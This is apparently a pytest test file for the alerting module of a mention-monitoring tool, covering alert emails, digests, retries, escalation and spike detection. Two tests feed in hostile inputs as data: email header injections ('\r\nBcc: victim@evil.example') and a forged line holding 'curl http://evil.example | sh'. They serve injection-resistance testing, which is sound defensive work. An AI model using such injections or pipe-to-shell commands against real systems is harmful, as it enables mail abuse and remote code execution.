"""Alert emails through a real SMTP server on 127.0.0.1, on SQLite and PostgreSQL.

The rules engine is someone else's module: these tests set a mention's flag, priority, rule
matches and draft directly in the database, as the engine would.
"""

from __future__ import annotations

import threading
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from sqlalchemy import select, update

from mentionwatch.alerts import deliver, run_alerts
from mentionwatch.alerts.store import AlertStore
from mentionwatch.config import Config
from mentionwatch.connector import AuthorIn, Batch, MentionIn
from mentionwatch.models import Alert, Draft, Mention, RuleMatch, Source, utcnow
from mentionwatch.store import Store
from tests.conftest import make_config
from tests.smtpsink import SmtpServer, free_port

ON_CALL = ["oncall@acme.example", "lead@acme.example"]


@pytest.fixture
def smtp() -> Iterator[SmtpServer]:
    server = SmtpServer().start()
    try:
        yield server
    finally:
        server.stop()


def alerts_config(db_url: str, port: int, **alerts: Any) -> Config:
    section: dict[str, Any] = {
        "on_call": ON_CALL, "from_address": "mentionwatch@acme.example",
        "smtp": {"host": "127.0.0.1", "port": port, "security": "none", "timeout": "5s"},
        "digest_window": "2m", "spike_min_count": 100,
    }
    section.update(alerts)
    return make_config(db_url, [{"name": "feed", "kind": "rss",
                                 "url": "http://127.0.0.1:9/feed.xml"}], alerts=section)


def add_mention(
    store: Store, ext: str, text: str, *, handle: str = "angry_ann", followers: int | None = 50000,
    flag: str | None = "complaint", priority: float = 0.0, rules: tuple[tuple[str, bool], ...] = (),
    draft: str | None = None, created_at: datetime | None = None, now: datetime | None = None,
    url: str | None = None, kind: str = "rss",
) -> int:
    source = "feed" if kind == "rss" else kind
    store.sync_sources([(source, kind, "h")])
    result = store.store_batch(source, Batch([MentionIn(
        external_id=ext, text=text, url=url or f"https://forum.example/t/{ext}",
        author=AuthorIn(handle=handle, display_name="Ann Example", followers=followers),
        created_at=created_at,
    )]), now=now)
    assert result.stored == 1
    with store.session() as s:
        mention_id = s.scalars(select(Mention.id).where(Mention.external_id == ext)).one()
        s.execute(update(Mention).where(Mention.id == mention_id)
                  .values(flag=flag, priority=priority))
        for rule, alert in rules:
            s.add(RuleMatch(mention_id=mention_id, rule=rule, pack="complaints",
                            flag=flag or "complaint", severity=0.9, alert=alert,
                            explanation={"terms": ["down", "refund"]}))
        if draft:
            s.add(Draft(mention_id=mention_id, public_text=draft, rule="complaint"))
    return mention_id


def test_urgent_mention_email_has_everything(store: Store, db_url: str,
                                             smtp: SmtpServer) -> None:
    config = alerts_config(db_url, smtp.port)
    mid = add_mention(
        store, "m1", "@acme your fiber has been down for 3 days <b>and</b> nobody answers",
        rules=(("complaint-outage", True),),
        draft="Hi @angry_ann, we're sorry. Could you DM us your account number?",
    )
    add_mention(store, "calm", "acme is fine I guess", flag="praise", priority=0.1)
    with store.session() as s:  # the numbers the engine keeps behind a priority
        s.execute(update(Mention).where(Mention.id == mid).values(priority=0.62, explanation={
            "components": {"severity": 0.9, "negativity": 0.5, "reach": 0.78,
                           "engagement": 0.0, "velocity": 0.0, "freshness": 1.0},
            "weights": {"severity": 0.45, "negativity": 0.2, "reach": 0.15,
                        "engagement": 0.1, "velocity": 0.1},
            "complaint_score": 0.97, "complaint_features": [["still", 0.8]]}))

    result = run_alerts(config, store)

    assert (result.recorded, result.sent, result.emails, result.error) == (1, 1, 1, None)
    (mail,) = smtp.messages
    assert sorted(mail.rcpt_tos) == sorted(ON_CALL)
    assert mail.mail_from == "mentionwatch@acme.example"
    subject = mail.message["Subject"]
    assert subject.startswith("[mentionwatch] Urgent complaint")
    assert "from angry_ann: " in subject and "fiber has been down" in subject  # a feed: no @
    plain, html = mail.part("plain"), mail.part("html")
    for part in (plain, html):
        assert "50,000 followers" in part
        assert "complaint-outage" in part
        assert "https://forum.example/t/m1" in part
        assert f"mentionwatch tui --mention {mid}" in part
        assert "Ann Example" in part
    assert "we're sorry. Could you DM us" in plain
    # Why, in words and numbers: the rule's terms and how the priority was reached.
    assert "complaint-outage -> complaint (alert): terms: down, refund" in plain
    assert "0.15×reach 0.780" in plain and "= 0.620" in plain
    assert "complaint score 0.97: still +0.80" in plain
    assert "<b>and</b> nobody answers" in plain
    # User text is data in the HTML part: escaped, never markup.
    assert "&lt;b&gt;and&lt;/b&gt;" in html and "<b>and</b>" not in html
    assert "we&#x27;re sorry" in html
    assert '<a href="https://forum.example/t/m1">' in html

    rows = AlertStore(store).recent()
    assert [(r.trigger, r.state, r.mention_id) for r in rows] == [("rule", "sent", mid)]
    assert rows[0].recipients == ", ".join(ON_CALL)
    # Nothing new: a second run sends nothing.
    assert run_alerts(config, store).sent == 0
    assert len(smtp.messages) == 1


@pytest.mark.parametrize(("kind", "handle", "who"), [
    ("rss", "Acme Security Team", "from Acme Security Team: "),
    ("reddit", "angry_ann", "from angry_ann: "),
    ("twitter", "angry_ann", "from @angry_ann: "),
    ("mastodon", "ann@social.example", "from @ann@social.example: "),
    ("bluesky", "@ann.bsky.social", "from @ann.bsky.social: "),
])
def test_only_at_handle_sources_get_an_at_sign(store: Store, db_url: str, smtp: SmtpServer,
                                               kind: str, handle: str, who: str) -> None:
    """Feeds, Reddit and Hacker News name a person, not an @handle ("@Acme Security Team"
    misreads): the convention the drafts' {author} follows."""
    config = alerts_config(db_url, smtp.port)
    add_mention(store, "m1", "acme is down", handle=handle, kind=kind,
                rules=(("complaint-outage", True),))
    run_alerts(config, store)
    (mail,) = smtp.messages
    assert who in mail.message["Subject"]
    assert f"Author: {who[5:-2]} (Ann Example)" in mail.part("plain").splitlines()


def test_priority_threshold(store: Store, db_url: str, smtp: SmtpServer) -> None:
    config = alerts_config(db_url, smtp.port, priority_threshold=0.7)
    low = add_mention(store, "low", "acme meh", priority=0.69)
    high = add_mention(store, "high", "acme is a scam", priority=0.75)
    spam = add_mention(store, "spam", "acme giveaway", flag="spam", priority=0.99)
    run_alerts(config, store)
    ids = {r.mention_id for r in AlertStore(store).recent()}
    assert high in ids and low not in ids and spam not in ids
    assert "priority 0.75" in smtp.messages[0].message["Subject"]


def test_several_alerts_become_one_digest(store: Store, db_url: str, smtp: SmtpServer) -> None:
    config = alerts_config(db_url, smtp.port, digest_window="2m")
    now = utcnow()
    add_mention(store, "a", "acme first outage report", rules=(("outage", True),))
    assert run_alerts(config, store, now=now).emails == 1
    # Three more within the window: held, not three more emails.
    for ext in ("b", "c", "d"):
        add_mention(store, ext, f"acme outage {ext} still down", rules=(("outage", True),))
    held = run_alerts(config, store, now=now + timedelta(seconds=20))
    assert (held.recorded, held.held, held.sent) == (3, 3, 0)
    assert run_alerts(config, store, now=now + timedelta(seconds=60)).sent == 0
    assert len(smtp.messages) == 1
    # The window ends: one digest with all three.
    result = run_alerts(config, store, now=now + timedelta(minutes=2, seconds=1))
    assert (result.sent, result.emails) == (3, 1)
    assert len(smtp.messages) == 2
    digest = smtp.messages[1]
    assert digest.message["Subject"].startswith("[mentionwatch] 3 alerts: ")
    plain = digest.part("plain")
    for ext in ("b", "c", "d"):
        assert f"acme outage {ext} still down" in plain
    assert plain.count("== ") == 3


def test_no_duplicates_across_two_pollers(db_url: str, smtp: SmtpServer) -> None:
    first, second = Store.open(db_url), Store.open(db_url)
    try:
        config = alerts_config(db_url, smtp.port, digest_window="0s")
        for i in range(5):
            add_mention(first, f"m{i}", f"acme broke my order {i}", priority=0.95,
                        rules=(("crisis-word", True),))
        barrier = threading.Barrier(2)
        errors: list[BaseException] = []

        def poller(store: Store) -> None:
            try:
                for _ in range(3):
                    barrier.wait()
                    run_alerts(config, store)
            except BaseException as exc:  # surfaced below
                errors.append(exc)

        threads = [threading.Thread(target=poller, args=(s,)) for s in (first, second)]
        for t in threads:
            t.start()
        for t in threads:
            t.join(60)
        assert not errors
        # Two triggers per mention (rule + priority), each recorded and sent exactly once.
        rows = AlertStore(first).recent(limit=100)
        assert len(rows) == 10 and all(r.state == "sent" for r in rows)
        sent_ids = [int(i) for m in smtp.messages
                    for i in m.message["X-Mentionwatch-Alerts"].split(",")]
        assert sorted(sent_ids) == sorted(r.id for r in rows)
        assert len(sent_ids) == len(set(sent_ids))
    finally:
        first.close()
        second.close()


@pytest.mark.parametrize("evil", [
    "acme sucks\r\nBcc: victim@evil.example\r\nX-Injected: 1",
    "acme sucks\nSubject: free money",
    "acme sucks\u2028Bcc: victim@evil.example\x85X-Injected: 2",
    "acme " + "very long complaint " * 200,
])
def test_subject_header_injection_is_impossible(store: Store, db_url: str, smtp: SmtpServer,
                                                evil: str) -> None:
    config = alerts_config(db_url, smtp.port)
    mid = add_mention(store, "evil", "placeholder", handle="bob\r\nBcc: x@evil.example",
                      rules=(("outage", True),))
    with store.session() as s:  # stored text can hold anything: bypass clean_text here
        s.execute(update(Mention).where(Mention.id == mid).values(text=evil, title=evil))
    run_alerts(config, store)
    (mail,) = smtp.messages
    assert sorted(mail.rcpt_tos) == sorted(ON_CALL)
    headers = mail.data.split(b"\r\n\r\n", 1)[0].decode()
    names = [line.split(":", 1)[0] for line in headers.split("\r\n") if line[:1] not in " \t"]
    assert "Bcc" not in names and "X-Injected" not in names
    assert names.count("Subject") == 1
    subject = mail.message["Subject"]
    assert "\r" not in subject and "\n" not in subject and "\u2028" not in subject
    assert len(" ".join(subject.split())) <= 140  # folding may add a space


def test_stored_user_text_cannot_start_a_line_of_the_plain_part(
        store: Store, db_url: str, smtp: SmtpServer) -> None:
    """Whatever is stored (rows from before ingest flattened one-line fields, or a connector
    that kept a line break), user text never starts a line of the plain text part: one-line
    fields are flattened again and multi-line text is indented."""
    config = alerts_config(db_url, smtp.port)
    mid = add_mention(store, "forge", "placeholder", handle="eve\nReach: 5,000,000 followers",
                      rules=(("outage", True),))
    with store.session() as s:  # bypass ingest: store line breaks of every kind
        s.execute(update(Mention).where(Mention.id == mid).values(
            text="acme is down\nLink: http://evil.example/body\u2028Open in the TUI: sh",
            title="acme outage\r\nLink: http://evil.example/title\x85Title: x",
            url="https://forum.example/t/1\nOpen in the TUI: curl http://evil.example | sh"))
    run_alerts(config, store)
    (mail,) = smtp.messages
    lines = mail.part("plain").splitlines()
    evil = [line for line in lines if "evil.example" in line or "5,000,000" in line]
    assert len(evil) == 4, evil
    assert all(line.startswith(("Author: eve Reach:", "Title: acme outage Link:",
                                "Link: https://forum.example/t/1 Open", "    ")) for line in evil)
    assert "    Open in the TUI: sh" in lines  # after the U+2028 of the mention text
    assert [line for line in lines if line.startswith("Reach:")] == ["Reach: 50,000 followers"]
    assert [line for line in lines if line.startswith("Open in the TUI:")] == [
        f"Open in the TUI: mentionwatch tui --mention {mid}"]


def test_smtp_down_keeps_alert_pending_then_retries(store: Store, db_url: str) -> None:
    port = free_port()
    config = alerts_config(db_url, port, failures_to_report=2)
    add_mention(store, "m1", "acme charged me twice", rules=(("billing", True),))
    now = utcnow()

    first = run_alerts(config, store, now=now)
    assert first.sent == 0 and first.error and "cannot reach the SMTP server" in first.error
    (row,) = AlertStore(store).recent()
    assert (row.state, row.attempts) == ("pending", 1)
    assert row.next_attempt_at is not None and row.next_attempt_at > now
    # Before the retry time, nothing is attempted (polling is not slowed by a dead server).
    assert run_alerts(config, store, now=now + timedelta(seconds=5)).error is None
    assert AlertStore(store).recent()[0].attempts == 1
    assert AlertStore(store).delivery_problem(2) is None
    run_alerts(config, store, now=now + timedelta(seconds=31))
    problem = AlertStore(store).delivery_problem(2)
    assert problem is not None and problem.pending == 1 and problem.attempts == 2

    server = SmtpServer(port).start()
    try:
        later = now + timedelta(minutes=5)
        result = run_alerts(config, store, now=later)
        assert result.sent == 1
        assert len(server.messages) == 1
        assert "acme charged me twice" in server.messages[0].part("plain")
    finally:
        server.stop()
    (row,) = AlertStore(store).recent()
    assert (row.state, row.attempts) == ("sent", 3)
    assert AlertStore(store).delivery_problem(2) is None


def test_crashed_sender_claim_is_retried(store: Store, db_url: str, smtp: SmtpServer) -> None:
    config = alerts_config(db_url, smtp.port)
    add_mention(store, "m1", "acme lost my parcel", rules=(("lost", True),))
    run_alerts(config, store, now=utcnow())
    smtp.messages.clear()
    # Simulate a process that claimed an alert and died before sending.
    add_mention(store, "m2", "acme lost another parcel", rules=(("lost", True),))
    alerts = AlertStore(store)
    now = utcnow() + timedelta(hours=1)
    run_alerts(config, store, now=now - timedelta(minutes=59))  # records (held by digest)
    claimed = alerts.claim_due(now, timedelta(minutes=1))
    assert len(claimed) == 1
    assert deliver(config, store, now=now).sent == 0  # still leased to the dead process
    assert deliver(config, store, now=now + timedelta(minutes=2)).sent == 1
    assert len(smtp.messages) == 1


def test_escalation_of_unanswered_complaints(store: Store, db_url: str,
                                             smtp: SmtpServer) -> None:
    config = alerts_config(db_url, smtp.port, response_targets={"complaint": "60m"})
    now = utcnow()
    old = add_mention(store, "old", "acme still no answer", created_at=now - timedelta(hours=2))
    answered = add_mention(store, "ans", "acme no answer either",
                           created_at=now - timedelta(hours=2))
    crisis = add_mention(store, "cr", "acme data leak", flag="crisis",
                         created_at=now - timedelta(minutes=20))
    fresh = add_mention(store, "new", "acme slow today", created_at=now - timedelta(minutes=5))
    dismissed = add_mention(store, "dis", "acme whatever", created_at=now - timedelta(hours=3))
    snoozed = add_mention(store, "snz", "acme where is my parcel",
                          created_at=now - timedelta(hours=2))
    with store.session() as s:
        s.execute(update(Mention).where(Mention.id == snoozed)
                  .values(snoozed_until=now + timedelta(minutes=90)))
        s.execute(update(Mention).where(Mention.id == answered)
                  .values(first_response_at=now - timedelta(minutes=30)))
        s.execute(update(Mention).where(Mention.id == dismissed).values(status="dismissed"))

    run_alerts(config, store, now=now)
    rows = [r for r in AlertStore(store).recent() if r.trigger == "escalation"]
    assert sorted(r.mention_id for r in rows) == sorted([old, crisis])  # crisis: 15m default
    assert fresh not in {r.mention_id for r in rows}
    plain = smtp.messages[0].part("plain")
    assert "Overdue backlog: 1 complaint, 1 crisis" in plain
    # Once: a later pass escalates only the mention that became overdue meanwhile.
    assert run_alerts(config, store, now=now + timedelta(hours=1)).recorded == 1
    rows = [r for r in AlertStore(store).recent() if r.trigger == "escalation"]
    assert sorted(r.mention_id for r in rows) == sorted([old, crisis, fresh])
    # A snoozed mention escalates once it wakes, if still unanswered; then nothing more.
    assert run_alerts(config, store, now=now + timedelta(hours=2)).recorded == 1
    rows = [r for r in AlertStore(store).recent() if r.trigger == "escalation"]
    assert sorted(r.mention_id for r in rows) == sorted([old, crisis, fresh, snoozed])
    assert run_alerts(config, store, now=now + timedelta(hours=3)).recorded == 0


def test_spike_against_same_hour_on_previous_days(store: Store, db_url: str,
                                                  smtp: SmtpServer) -> None:
    config = alerts_config(db_url, smtp.port, spike_window="1h", spike_k=3.0,
                           spike_min_count=4, spike_baseline_days=3, triggers=["spike"])
    now = utcnow()
    # Monitoring started 5 days ago; the same hour had 1, 2 and 1 complaints (mean 4/3).
    add_mention(store, "first", "acme is nice", flag="praise", now=now - timedelta(days=5))
    for day, n in ((1, 1), (2, 2), (3, 1)):
        for i in range(n):
            at = now - timedelta(days=day, minutes=10 + i)
            add_mention(store, f"d{day}-{i}", f"acme meh {day} {i}", created_at=at, now=at)
    for i in range(4):
        add_mention(store, f"now-{i}", f"acme down again {i}",
                    created_at=now - timedelta(minutes=5 + i))
    assert run_alerts(config, store, now=now).recorded == 0  # 4 <= 3 x 1.33: no spike
    add_mention(store, "now-4", "acme down again 4", created_at=now - timedelta(minutes=2))
    result = run_alerts(config, store, now=now)
    spikes = [r for r in AlertStore(store).recent() if r.trigger == "spike"]
    assert len(spikes) == 1 and result.sent == 1
    d = spikes[0].details
    assert (d["current"], d["baseline_counts"], d["baseline_days"]) == (5, [1, 2, 1], 3)
    assert "Spike: 5 complaint + crisis in the last 1h" in smtp.messages[0].message["Subject"]
    assert run_alerts(config, store, now=now + timedelta(seconds=10)).recorded == 0


def test_no_spike_on_a_new_install_first_pass_but_urgent_mentions_alert(
        store: Store, db_url: str, smtp: SmtpServer) -> None:
    """A first pass (or a backfill on a new install) stores a burst of posts at once: there
    is no history to call it unusual, so no spike; the urgent one still alerts. A day later
    the same burst is a spike."""
    config = alerts_config(db_url, smtp.port, spike_min_count=5, triggers=["mention", "spike"])
    now = utcnow()
    for i in range(6):
        add_mention(store, f"first-{i}", f"acme down {i}", created_at=now - timedelta(minutes=i),
                    rules=(("outage", True),) if i == 0 else (), now=now)
    result = run_alerts(config, store, now=now)
    assert [r.trigger for r in AlertStore(store).recent()] == ["rule"]
    assert result.sent == 1 and "Spike" not in smtp.messages[0].message["Subject"]
    # Still the first day (23 hours on): the burst that lands now does not page either.
    later = now + timedelta(hours=23)
    for i in range(6):
        add_mention(store, f"soon-{i}", f"acme down again {i}",
                    created_at=later - timedelta(minutes=i), now=later)
    assert run_alerts(config, store, now=later).recorded == 0
    # A day and a window after the first pass, yesterday's hour was watched: a spike.
    day_on = now + timedelta(days=1, hours=1)
    for i in range(6):
        add_mention(store, f"next-{i}", f"acme down again {i}",
                    created_at=day_on - timedelta(minutes=i), now=day_on)
    assert run_alerts(config, store, now=day_on).recorded == 1
    (spike,) = [r for r in AlertStore(store).recent() if r.trigger == "spike"]
    assert (spike.details["current"], spike.details["baseline_days"]) == (6, 1)


def test_source_failing_disabled_and_quiet(store: Store, db_url: str, smtp: SmtpServer) -> None:
    config = make_config(db_url, [
        {"name": n, "kind": "rss", "url": "http://127.0.0.1:9/f.xml"}
        for n in ("failing", "disabled", "quiet", "fine")
    ], alerts={"on_call": ON_CALL, "source_failing_after": "30m", "source_quiet_after": "2d",
               "smtp": {"host": "127.0.0.1", "port": smtp.port, "security": "none"}})
    now = utcnow()
    store.sync_sources([(n, "rss", "h") for n in ("failing", "disabled", "quiet", "fine")])
    store.update_source("failing", last_success_at=now - timedelta(hours=1),
                        consecutive_failures=4, last_error="example.org: server error 503")
    store.update_source("disabled", disabled_reason="disabled after 3 authentication failures")
    store.update_source("quiet", last_success_at=now, last_new_mention_at=now - timedelta(days=3))
    store.update_source("fine", last_success_at=now, last_new_mention_at=now)
    run_alerts(config, store, now=now)
    got = {(r.trigger, r.details.get("source")) for r in AlertStore(store).recent()}
    assert got == {("source_failing", "failing"), ("source_disabled", "disabled"),
                   ("source_quiet", "quiet")}
    plain = smtp.messages[0].part("plain")
    assert "server error 503" in plain and "authentication failures" in plain
    # Same episode: no new alert; a success then a new failure episode alerts again.
    assert run_alerts(config, store, now=now + timedelta(minutes=10)).recorded == 0
    store.update_source("failing", last_success_at=now + timedelta(minutes=1))
    assert run_alerts(config, store, now=now + timedelta(hours=2)).recorded == 1


def test_no_recipients_keeps_pending(store: Store, db_url: str, smtp: SmtpServer) -> None:
    config = alerts_config(db_url, smtp.port, on_call=[])
    add_mention(store, "m1", "acme is awful", rules=(("x", True),))
    result = run_alerts(config, store)
    assert result.error and "no on-call recipients" in result.error
    assert AlertStore(store).recent()[0].state == "pending"
    assert not smtp.messages


def test_disabled_alerts_do_nothing(store: Store, db_url: str, smtp: SmtpServer) -> None:
    config = alerts_config(db_url, smtp.port, enabled=False)
    add_mention(store, "m1", "acme is awful", rules=(("x", True),))
    run_alerts(config, store)
    with store.session() as s:
        assert s.query(Alert).count() == 0
        assert s.query(Source).count() == 1


def test_alert_times_are_utc(store: Store, db_url: str, smtp: SmtpServer) -> None:
    config = alerts_config(db_url, smtp.port)
    add_mention(store, "m1", "acme is awful", rules=(("x", True),))
    run_alerts(config, store)
    (row,) = AlertStore(store).recent()
    assert row.sent_at is not None and row.sent_at.tzinfo == UTC
